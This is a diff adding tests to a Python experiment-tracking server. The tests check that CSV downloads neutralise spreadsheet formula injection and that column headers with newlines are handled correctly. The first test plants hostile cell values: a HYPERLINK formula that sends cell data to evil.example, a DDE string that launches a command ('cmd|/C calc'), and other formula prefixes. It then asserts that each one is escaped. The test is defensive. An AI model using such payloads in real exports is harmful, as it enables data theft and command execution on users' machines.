@@ -19,6 +19,7 @@ from luthier.core.terms import Outcome, Status, TrialId
 from luthier.plots.catalogue import FIGURES
 from luthier.server import tables
 from luthier.server.auth.caller import Caller, Role
+from luthier.server.reading.export import batches_csv
 from luthier.server.reading.history import curves
 from luthier.server.reading.pulse import Pulse
 from luthier.server.reading.stretches import Stretches
@@ -134,6 +135,31 @@ def test_downloads(sweep, client):
     assert [row["_row"] for row in client.get(f"{BASE}/runs/{SWEEP}-3/history.json").json()] == list(range(8))
     assert client.get(f"{BASE}/runs/{SWEEP}-3/output.txt").text.count("epoch") == 8
     assert client.get(f"{BASE}/sweeps/{SWEEP}/config").text.startswith("program: train.py")
+
+
+def test_no_cell_of_a_download_is_a_formula(sweep, client):
+    formula = '=HYPERLINK("http://evil.example/"&A1)'
+    with sweep.database.begin() as connection:
+        here = tables.runs.c.id == f"{SWEEP}-3"
+        values = {"name": "@SUM(1)", "config": text({formula: "+1+cmd|'/C calc'!A0", "lr": -0.5, "low": "-inf"})}
+        connection.execute(tables.runs.update().where(here).values(**values))
+        connection.execute(
+            tables.history.update()
+            .where(tables.history.c.run_id == f"{SWEEP}-3")
+            .values(metrics=text({formula: "\t=1"}))
+        )
+    rows = list(csv.reader(io.StringIO(client.get(f"{BASE}/sweeps/{SWEEP}/runs.csv").text)))
+    rows += list(csv.reader(io.StringIO(client.get(f"{BASE}/runs/{SWEEP}-3/history.csv").text)))
+    cells = [cell for row in rows for cell in row]
+    assert {"'@SUM(1)", "'+1+cmd|'/C calc'!A0", f"'{formula}", "'\t=1", "-0.5", "-inf"} <= set(cells)
+    assert [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t"}] == []
+
+
+def test_a_long_download_has_one_head_whatever_its_columns_are_called():
+    name = "one\r\ntwo"
+    batches = iter([[{name: 1}], [{name: 2}], [{name: 3}]])
+    rows = list(csv.DictReader(io.StringIO("".join(batches_csv([], batches)), newline="")))
+    assert [row[name] for row in rows] == ["1", "2", "3"]
 
 
 def test_a_run(sweep, get):
